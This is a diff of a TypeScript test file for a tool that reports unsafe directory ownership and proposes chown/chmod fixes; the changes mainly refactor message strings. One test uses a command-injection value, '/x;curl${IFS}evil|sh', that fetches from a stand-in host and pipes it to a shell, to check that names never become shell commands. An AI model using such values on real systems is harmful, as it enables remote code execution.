@@ -1,4 +1,6 @@
 import { expect, test } from 'vitest'
+import { NOTHING_CHANGED } from '../errors.ts'
+import ground from '../host/agent/ground.sh?raw'
 import { cluster, goodFacts, node } from './machine.fixture.ts'
 import { judgeRehearsal, sandboxOf, WRITTEN } from './rehearsal.ts'
 import { type Finding, type FindingKind, readFindings, readRooms, readSecurity } from './rehearsal-facts.ts'
@@ -39,7 +41,7 @@ test('a link names its target, and what to write into the cluster file instead',
 
 test('what a machine names becomes no command that a shell would read otherwise', () => {
   const evil = '/x;curl${IFS}evil|sh'
-  const loose = `root can't work safely in /opt; nothing was changed. Fix: chown root: ${evil} && chmod go-w ${evil}`
+  const loose = `/opt is open; ${NOTHING_CHANGED}. Fix: chown root: ${evil} && chmod go-w ${evil}`
   const checks = [
     ...failures(found('link', '/opt/etcd', evil)),
     ...failures(found('ground', '/opt', loose)),
@@ -78,14 +80,15 @@ test.each<[FindingKind, string, string, string, RegExp]>([
 })
 
 test('what root refuses to work in carries its own fix', () => {
-  const said =
-    "root can't work safely in /srv: other users can write to /srv (user app, group app, mode 755); nothing was changed. Fix: chown root: /srv && chmod go-w /srv"
+  const open = '/srv is open (user app, group app, mode 755)'
+  const said = `${open}; ${NOTHING_CHANGED}. Fix: chown root: /srv && chmod go-w /srv`
   expect(failures(found('ground', '/srv', said))).toMatchObject([
     {
-      found: "root can't work safely in /srv: other users can write to /srv (user app, group app, mode 755)",
+      found: open,
       remedy: expect.stringMatching(/^chown root: \/srv && chmod go-w \/srv; or set/),
     },
   ])
+  expect(ground).toContain(`; ${NOTHING_CHANGED}. Fix: chown root: `)
 })
 
 test('one cause in several places is one failure', () => {
